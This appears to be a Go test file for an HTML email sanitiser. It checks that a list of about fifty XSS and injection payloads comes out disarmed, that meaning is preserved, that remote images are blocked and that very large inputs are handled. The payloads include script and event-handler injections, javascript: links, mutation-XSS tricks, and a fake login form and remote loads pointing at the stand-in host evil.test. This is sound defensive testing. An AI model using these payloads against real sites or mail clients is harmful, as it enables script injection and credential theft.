package markup

import (
	"strings"
	"testing"

	"golang.org/x/net/html"
	"pgregory.net/rapid"
)

// attacks are inputs that must come out without anything that runs, loads, submits or restyles.
var attacks = []string{
	`<script>alert(1)</script>`,
	`<SCRIPT SRC=//evil.test/x.js></SCRIPT>`,
	`<scr<script>ipt>alert(1)</scr</script>ipt>`,
	`<img src=x onerror=alert(1)>`,
	`<img src="javascript:alert(1)">`,
	`<img/src=x/onerror=alert(1)//`,
	`<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">`,
	`<img srcset="https://evil.test/a 1x" src=cid:a>`,
	`<a href="javascript:alert(1)">x</a>`,
	"<a href=\"java\nscript:alert(1)\">x</a>",
	"<a href=\"\x01javascript:alert(1)\">x</a>",
	`<a href="&#106;avascript:alert(1)">x</a>`,
	`<a href="data:text/html,<script>alert(1)</script>">x</a>`,
	`<a href="vbscript:msgbox(1)">x</a>`,
	`<a href="/w/acme/logout">x</a>`,
	`<svg onload=alert(1)><script>alert(1)</script></svg>`,
	`<svg><style><img src=x onerror=alert(1)></style></svg>`,
	`<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`,
	`<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>`,
	`<math href="javascript:alert(1)">x</math>`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`,
	`<style>@import url(//evil.test/x.css);body{display:none}</style>`,
	`<div style="position:fixed;top:0;background:url(//evil.test/x)">x</div>`,
	`<div class="btn modal" id="login">x</div>`,
	`<link rel=stylesheet href=//evil.test/x.css>`,
	`<meta http-equiv=refresh content="0;url=//evil.test">`,
	`<base href=//evil.test/>`,
	`<form action=//evil.test><input name=password><button>Sign in</button></form>`,
	`<button formaction="javascript:alert(1)">x</button>`,
	`<iframe src=//evil.test></iframe>`,
	`<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
	`<object data=//evil.test/x.swf></object><embed src=//evil.test/x.swf>`,
	`<video src=//evil.test/x onerror=alert(1)><source src=//evil.test/y></video>`,
	`<audio autoplay src=//evil.test/x></audio>`,
	`<details open ontoggle=alert(1)>x</details>`,
	`<body onload=alert(1) background=//evil.test/x>`,
	`<table background="//evil.test/x"><tr><td background=javascript:alert(1)>x</table>`,
	`<template><img src=x onerror=alert(1)></template>`,
	`<textarea><img src=x onerror=alert(1)></textarea>`,
	`<xmp><img src=x onerror=alert(1)></xmp>`,
	`<!--[if gte IE 4]><script>alert(1)</script><![endif]-->`,
	`<![CDATA[<script>alert(1)</script>]]>`,
	`<?xml version="1.0"?><script>alert(1)</script>`,
	"<img src=\"x` `<script>alert(1)</script>\"` `>",
	`<<img src=x onerror=alert(1)>`,
	`<a href="https://x.test" onclick=alert(1) target=_top ping=//evil.test>x</a>`,
	`<input type=image src=//evil.test/x>`,
	`<p title="x" onmouseover=alert(1)//`,
	"<img src=x one\x00rror=alert(1)>",
	`<plaintext><script>alert(1)</script>`,
	`<title></title><img src=x onerror=alert(1)>`,
	`<frameset><frame src="javascript:alert(1)"></frameset>`,
	`<isindex action=javascript:alert(1) type=image>`,
	`<marquee onstart=alert(1)>x</marquee>`,
}

// harmless reads cleaned HTML as a browser would and reports anything outside the vocabulary.
func harmless(t interface {
	Helper()
	Errorf(string, ...any)
}, clean string) {
	t.Helper()
	z := html.NewTokenizer(strings.NewReader(clean))
	var open []string
	for {
		kind := z.Next()
		if kind == html.ErrorToken {
			break
		}
		tok := z.Token()
		switch kind {
		case html.CommentToken, html.DoctypeToken:
			t.Errorf("comment or doctype in %q", clean)
		case html.EndTagToken:
			if len(open) == 0 || open[len(open)-1] != tok.Data {
				t.Errorf("stray </%s> in %q", tok.Data, clean)
				return
			}
			open = open[:len(open)-1]
		case html.StartTagToken, html.SelfClosingTagToken:
			e := elements[tok.Data]
			if !e.keep {
				t.Errorf("element %s in %q", tok.Data, clean)
			}
			if !e.void {
				open = append(open, tok.Data)
			}
			for _, a := range tok.Attr {
				checkAttribute(t, tok.Data, a, clean)
			}
		}
	}
	if len(open) > 0 {
		t.Errorf("left open: %v in %q", open, clean)
	}
}

func checkAttribute(t interface {
	Helper()
	Errorf(string, ...any)
}, element string, a html.Attribute, clean string) {
	t.Helper()
	switch a.Key {
	case "href":
		if href := safeHref(a.Val); href == "" {
			t.Errorf("href %q in %q", a.Val, clean)
		}
	case "src":
		if !strings.HasPrefix(a.Val, "/embedded/") {
			t.Errorf("src %q in %q", a.Val, clean)
		}
	case "class":
		if a.Val != SignatureClass {
			t.Errorf("class %q in %q", a.Val, clean)
		}
	case "alt", "title", "width", "height", "dir", "lang", "align", "colspan", "rowspan", "start", "rel", "target":
	default:
		t.Errorf("attribute %s on %s in %q", a.Key, element, clean)
	}
}

func embedded(cid string) string { return "/embedded/" + cid }

func TestSanitiseDisarms(t *testing.T) {
	t.Parallel()
	for _, attack := range attacks {
		for _, src := range []string{attack, "<p>before" + attack + "after", attack + attack, strings.ToUpper(attack)} {
			clean, _ := Sanitise(src, Options{CIDURL: embedded})
			harmless(t, clean)
			again, _ := Sanitise(clean, Options{})
			harmless(t, again)
		}
	}
}

func TestSanitiseAnything(t *testing.T) {
	t.Parallel()
	pieces := append([]string{"<", ">", "\"", "'", "=", "</", "/>", "<!--", "-->", "<b>", "</b>", "<p>", "</div>", "<div>",
		"<table>", "<td>", "<tr>", "</table>", "<li>", "<a href=https://x.test>", "</a>", "<blockquote type=cite>",
		"</blockquote>", "text", "&lt;", "&#x3c;script>", "\x00", "\xff"}, attacks...)
	rapid.Check(t, func(rt *rapid.T) {
		src := strings.Join(rapid.SliceOfN(rapid.SampledFrom(pieces), 0, 30).Draw(rt, "pieces"), "")
		clean, _ := Sanitise(src, Options{CIDURL: embedded})
		harmless(rt, clean)
		parts := SanitiseFolded(src, Options{CIDURL: embedded})
		harmless(rt, parts.Fresh)
		harmless(rt, parts.Quoted)
		if HTMLToText(clean) == "" && parts.Fresh == "" && parts.Quoted != "" {
			rt.Fatalf("everything folded away: %q", src)
		}
	})
}

func TestSanitiseKeepsMeaning(t *testing.T) {
	t.Parallel()
	for _, c := range []struct{ name, src, want string }{
		{"formatting", `<p>Hello <b>bold</b> <i>it</i></p>`, `<p>Hello <b>bold</b> <i>it</i></p>`},
		{"link", `<a href="https://x.test/?a=1&b=2">x</a>`,
			`<a href="https://x.test/?a=1&amp;b=2" rel="nofollow noreferrer noopener" target="_blank">x</a>`},
		{"mail link", `<a href="mailto:a@x.test">x</a>`, `<a href="mailto:a@x.test" rel="nofollow noreferrer">x</a>`},
		{"table", `<table border=1><tr><td colspan=2 style="x">a<td>b</table>`,
			`<table><tr><td colspan="2">a</td><td>b</td></tr></table>`},
		{"stray ends", `</div></div>text</p>`, `text`},
		{"cell keeps table", `<div><table><tr><td>a</div>b</td></tr></table></div>`,
			`<div><table><tr><td>ab</td></tr></table></div>`},
		{"font", `<font color=red>x</font><center>y</center>`, `<span>x</span><div>y</div>`},
		{"signature", `<div class="gmail_signature">Ana</div>`, `<div class="signature">Ana</div>`},
		{"unknown", `<o:p>text</o:p><blink>x</blink>`, `textx`},
	} {
		if got, _ := Sanitise(c.src, Options{}); got != c.want {
			t.Errorf("%s:\n got %s\nwant %s", c.name, got, c.want)
		}
	}
}

func TestImages(t *testing.T) {
	t.Parallel()
	src := `<img src="https://x.test/a.png" alt="A"><img src="//x.test/b.png"><img src="cid:logo%40x" width=20><img src="file:///etc/passwd">`
	clean, blocked := Sanitise(src, Options{CIDURL: embedded})
	if blocked != 2 || clean != `<img alt="A"><img src="/embedded/logo@x" width="20">` {
		t.Errorf("blocked %d: %s", blocked, clean)
	}
	clean, blocked = Sanitise(src, Options{AllowRemoteImages: true})
	if blocked != 0 || !strings.Contains(clean, `src="https://x.test/b.png"`) || strings.Contains(clean, "file:") {
		t.Errorf("allowed: blocked %d: %s", blocked, clean)
	}
}

// TestHostileSize is about time: each of these makes a tree parser or a careless loop take minutes.
func TestHostileSize(t *testing.T) {
	t.Parallel()
	for _, unit := range []string{"<div>", "<b a=1>", "<table><tr><td>", "</div>", "<p>x", "<a href=https://x.test>", "<blockquote type=cite>",
		"<li>", "&lt;", "<", "On x wrote:", "<br>", "> ", "On x:\n", "From: x\n"} {
		src := strings.Repeat(unit, 100_000/len(unit))
		SanitiseFolded("x"+src, Options{})
		HTMLToText(src)
		SplitQuotedText(strings.ReplaceAll(src, ">", ">\n"))
		TextToHTML(src)
	}
}
